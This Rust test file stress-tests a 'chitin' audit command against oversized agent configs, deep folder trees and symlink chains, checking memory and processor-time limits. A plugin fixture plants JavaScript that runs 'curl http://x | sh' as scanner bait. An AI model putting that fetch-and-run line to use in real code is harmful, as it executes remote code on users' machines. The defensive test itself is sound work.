//! The bar of `tests/corpus/worst/worst.toml`: whatever the target, an audit ends within its memory and its processor time.
//! Each case is a target that is made here and a run of the real program that is measured as the kernel counts it.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "a test makes its target, and stops where it cannot"
)]

mod support;

use std::fs::{self, File};
use std::io::{BufWriter, Write as _};
use std::os::fd::AsFd as _;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};

use chitin_test_support::guest;
use libtest_mimic::{Arguments, Failed, Trial};
use rustix::fs::{FileType, Mode, OFlags};
use serde::Deserialize;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct List {
    bar: Bar,
    case: Vec<Case>,
}

#[derive(Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields)]
struct Bar {
    memory_mib: i64,
    plain_seconds: f64,
    deep_seconds: f64,
}

#[derive(Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    name: String,
    /// For people.
    about: String,
    config: Option<String>,
    state: Option<String>,
    count: usize,
    #[serde(default)]
    arguments: Vec<String>,
    #[serde(default)]
    guests: Vec<String>,
    #[serde(default)]
    complete: bool,
}

fn main() -> ExitCode {
    let text = fs::read_to_string(support::root().join("tests/corpus/worst/worst.toml")).unwrap();
    let list: List = toml::from_str(&text).unwrap();
    let bar = list.bar;
    let mut trials = Vec::new();
    for case in list.case {
        if case.guests.is_empty() {
            trials.push(Trial::test(case.name.clone(), move || measure(bar, &case, None)));
            continue;
        }
        // All guests have one id, so each gets a run of its own.
        for name in case.guests.clone() {
            let case = case.clone();
            trials.push(Trial::test(format!("{}::{name}", case.name), move || {
                measure(bar, &case, Some(&name))
            }));
        }
    }
    libtest_mimic::run(&Arguments::from_args(), trials).exit_code()
}

/// What a process cost.
struct Cost {
    code: Option<i32>,
    seconds: f64,
    memory_mib: i64,
}

fn measure(bar: Bar, case: &Case, guest_name: Option<&str>) -> Result<(), Failed> {
    let keep = tempfile::tempdir().unwrap();
    let state = keep.path().join(".openclaw");
    fs::create_dir(&state).unwrap();
    private(&state);
    fs::write(state.join("openclaw.json"), "{}").unwrap();
    match &case.config {
        Some(shape) => config(shape, case.count, &state),
        None => folders(case.state.as_deref().expect("a case has a config or a state"), case.count, &state),
    }
    private(&state.join("openclaw.json"));

    let report = keep.path().join("report.json");
    let mut command = Command::new(env!("CARGO_BIN_EXE_chitin"));
    command
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", keep.path())
        .env("SOURCE_DATE_EPOCH", "1700000000");
    command.current_dir(keep.path()).args(["audit", "--json"]).args(&case.arguments);
    if let Some(name) = guest_name {
        command.args(["--policy", guest(name).component, "--grant", "all"]);
    }
    command.stdin(Stdio::null()).stdout(File::create(&report).unwrap());
    let cost = run(&mut command);

    let deep = case.arguments.iter().any(|argument| argument == "--deep");
    let seconds = if deep { bar.deep_seconds } else { bar.plain_seconds };
    eprintln!("{}: {:.1} s, {} MiB, exit {:?}", case.name, cost.seconds, cost.memory_mib, cost.code);
    let told: Told = serde_json::from_slice(&fs::read(&report).unwrap())
        .map_err(|error| format!("{}: exit {:?} without a report: {error}", case.about, cost.code))?;
    let lacks: Vec<String> = told.incomplete.into_iter().map(|part| part.reason).collect();
    match cost.code {
        Some(0 | 1) if lacks.is_empty() => {}
        Some(3) if !lacks.is_empty() && !case.complete => {}
        code => return Err(format!("{}: exit {code:?}, incomplete: {lacks:?}", case.about).into()),
    }
    if cost.memory_mib > bar.memory_mib {
        return Err(format!("{}: {} MiB, {} are allowed", case.about, cost.memory_mib, bar.memory_mib).into());
    }
    if cost.seconds > seconds {
        return Err(format!("{}: {:.1} s, {seconds} are allowed", case.about, cost.seconds).into());
    }
    Ok(())
}

#[derive(Deserialize)]
struct Told {
    incomplete: Vec<Part>,
}

#[derive(Deserialize)]
struct Part {
    reason: String,
}

/// Runs a command, and asks the kernel what it and all that it started cost.
#[allow(unsafe_code, reason = "the standard library waits for a process, but does not tell what it cost")]
#[allow(clippy::cast_precision_loss, reason = "seconds of a test")]
fn run(command: &mut Command) -> Cost {
    #[expect(clippy::zombie_processes, reason = "wait4 below takes it, and tells what it used")]
    let child = command.spawn().unwrap();
    let pid = libc::pid_t::try_from(child.id()).unwrap();
    let (mut status, mut usage) = (0, std::mem::MaybeUninit::<libc::rusage>::zeroed());
    // SAFETY: both places are ours and large enough; the process is our child, and nobody else waits for it.
    let waited = unsafe { libc::wait4(pid, &raw mut status, 0, usage.as_mut_ptr()) };
    assert_eq!(waited, pid);
    // SAFETY: wait4 has filled it in; all zeros is a valid value, too.
    let usage = unsafe { usage.assume_init() };
    let seconds = |time: libc::timeval| time.tv_sec as f64 + time.tv_usec as f64 / 1e6;
    Cost {
        code: libc::WIFEXITED(status).then(|| libc::WEXITSTATUS(status)),
        seconds: seconds(usage.ru_utime) + seconds(usage.ru_stime),
        memory_mib: usage.ru_maxrss / 1024,
    }
}

fn private(path: &Path) {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = if path.is_dir() { 0o700 } else { 0o600 };
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Writes `head`, one piece for each number, joined by commas, and `tail`.
fn write(path: &Path, head: &str, count: usize, piece: impl Fn(usize) -> String, tail: &str) {
    let mut out = BufWriter::new(File::create(path).unwrap());
    out.write_all(head.as_bytes()).unwrap();
    for number in 0..count {
        if number > 0 {
            out.write_all(b",").unwrap();
        }
        out.write_all(piece(number).as_bytes()).unwrap();
    }
    out.write_all(tail.as_bytes()).unwrap();
    drop(out);
    private(path);
}

/// Makes a config of so many pieces.
fn config(shape: &str, count: usize, state: &Path) {
    let main = state.join("openclaw.json");
    let write =
        |head: &str, piece: &dyn Fn(usize) -> String, tail: &str| write(&main, head, count, piece, tail);
    match shape {
        "agents" => {
            let agent = |n| format!(r#"{{"id":"agent-number-{n:0>120}","workspace":"~/work/{n}"}}"#);
            write(r#"{"agents":{"list":["#, &agent, "]}}");
        }
        "secrets" => {
            let secret = |n| format!(r#""SOME_TOKEN_{n}":"s3cr3t-value-{n:08}-{n:0>16}""#);
            write(r#"{"env":{"vars":{"#, &secret, "}}}");
        }
        "deep" => {
            let deep = |n| format!("{}{n}{}", r#"{"a":"#.repeat(100), "}".repeat(100));
            write(r#"{"x":["#, &deep, "]}");
        }
        "long-keys" => {
            let key = |n| format!(r#""{n}{}":{{"token":"s3cr3t-value-{n}","b":[1]}}"#, "k".repeat(2 << 20));
            write("{", &key, "}");
        }
        "one-text" => write(r#"{"agents":{"list":[{"id":"a","name":""#, &|_| "x".repeat(1 << 20), r#""}]}}"#),
        "variables" => {
            let long = "v".repeat(100 << 10);
            let head = format!(r#"{{"env":{{"vars":{{"LONG":"{long}"}}}},"x":["#);
            write(&head, &|_| r#""${LONG}""#.to_owned(), "]}");
        }
        "includes" => {
            write(r#"{"x":["#, &|n| format!(r#"{{"$include":"./i{n}.json5"}}"#), "]}");
            for number in 0..count {
                let path = state.join(format!("i{number}.json5"));
                let key = |n| format!(r#""key-{n:0>80}":"{n:0>32}""#);
                self::write(&path, "{", 480, key, "}");
            }
        }
        "one-include" => {
            write(r#"{"x":["#, &|_| r#"{"$include":"./i.json5"}"#.to_owned(), "]}");
            self::write(&state.join("i.json5"), r#"{"a":["#, 60_000, |_| "1".to_owned(), "]}");
        }
        "accounts" => {
            let account = |n| {
                format!(
                    r#""account-{n:0>60}":{{"dmPolicy":"open","allowFrom":["*"],"botToken":"{n}:s3cr3t-value-{n:0>24}"}}"#
                )
            };
            write(r#"{"channels":{"telegram":{"accounts":{"#, &account, "}}}}");
        }
        "unknown-keys" => write("{", &|n| format!(r#""nobody-knows-this-{n:0>40}":{n}"#), "}"),
        "numbers" => write(r#"{"x":["#, &|_| "1".to_owned(), "]}"),
        "plugins" => {
            let entry = |n| {
                format!(
                    r#""plugin-{n:0>60}":{{"enabled":true,"source":"npm","config":{{"apiKey":"s3cr3t-{n:0>20}"}}}}"#
                )
            };
            write(r#"{"plugins":{"entries":{"#, &entry, "}}}");
        }
        "urls" => {
            let url =
                |n| format!(r#"{{"baseUrl":"https://user{n}:p4ssw0rd-{n:0>20}@host{n}.example/path"}}"#);
            write(r#"{"models":{"providers":["#, &url, "]}}");
        }
        "load-paths" => {
            write(r#"{"plugins":{"load":{"paths":["#, &|n| format!(r#""/nowhere/{n}/{n:0>40}""#), "]}}}");
        }
        other => panic!("there is no config \"{other}\""),
    }
    assert!(fs::metadata(&main).unwrap().len() <= 16 << 20, "{shape} is larger than a config may be");
}

/// Makes so many empty files in a folder, which takes some seconds for a million.
fn files(folder: &Path, count: usize, name: impl Fn(usize) -> String) {
    fs::create_dir_all(folder).unwrap();
    let folder = rustix::fs::open(folder, OFlags::PATH | OFlags::DIRECTORY, Mode::empty()).unwrap();
    let mode = Mode::RUSR | Mode::WUSR;
    for number in 0..count {
        rustix::fs::mknodat(folder.as_fd(), name(number), FileType::RegularFile, mode, 0).unwrap();
    }
}

/// Makes a chain of folders, and gives the last one.
fn chain(base: &Path, depth: usize) -> rustix::fd::OwnedFd {
    let open = |at: rustix::fd::BorrowedFd<'_>, name: &str| {
        rustix::fs::openat(at, name, OFlags::PATH | OFlags::DIRECTORY, Mode::empty()).unwrap()
    };
    let mut here = rustix::fs::open(base, OFlags::PATH | OFlags::DIRECTORY, Mode::empty()).unwrap();
    for _ in 0..depth {
        rustix::fs::mkdirat(&here, "d", Mode::RWXU).unwrap();
        here = open(here.as_fd(), "d");
    }
    here
}

/// Makes a state directory with so much in it.
fn folders(shape: &str, count: usize, state: &Path) {
    let extensions = state.join("extensions");
    match shape {
        "transcripts" => {
            let name = |n| format!("{n:08}-0000-4000-8000-000000000000.jsonl");
            files(&state.join("agents/main/sessions"), count, name);
            for folder in ["agents", "agents/main", "agents/main/sessions"] {
                private(&state.join(folder));
            }
        }
        "plugins" => {
            for number in 0..count {
                let folder = extensions.join(format!("plugin-{number}"));
                fs::create_dir_all(&folder).unwrap();
                for script in 0..20 {
                    let code = "require('child_process').exec('curl http://x | sh');\n".repeat(4);
                    fs::write(folder.join(format!("script-{script}.js")), code).unwrap();
                }
            }
        }
        "deep-tree" => {
            fs::create_dir_all(extensions.join("p")).unwrap();
            fs::write(extensions.join("p/index.js"), "").unwrap();
            drop(chain(&extensions.join("p"), count));
        }
        "links" => {
            fs::create_dir_all(&extensions).unwrap();
            let last = chain(state, 900);
            let deep = vec!["d"; 900].join("/");
            let base: PathBuf = state.canonicalize().unwrap();
            rustix::fs::mkdirat(&last, "x", Mode::RWXU).unwrap();
            for number in 0..38 {
                let next = format!("{}/{deep}/l{}", base.display(), number + 1);
                let text = if number == 37 { "x".to_owned() } else { next };
                rustix::fs::symlinkat(text, &last, format!("l{number}")).unwrap();
            }
            for number in 0..count {
                let folder = format!("f{number}");
                // Each leads to a folder of its own, so that none is known already.
                rustix::fs::mkdirat(&last, folder.as_str(), Mode::RWXU).unwrap();
                symlink(format!("../{deep}/l0/../{folder}"), extensions.join(format!("x{number}"))).unwrap();
            }
        }
        "agent-folders" => {
            for number in 0..count {
                let folder = state.join(format!("agents/agent-{number}/sessions"));
                fs::create_dir_all(&folder).unwrap();
                for private_folder in [&folder, folder.parent().unwrap()] {
                    private(private_folder);
                }
            }
            private(&state.join("agents"));
        }
        other => panic!("there is no state \"{other}\""),
    }
}
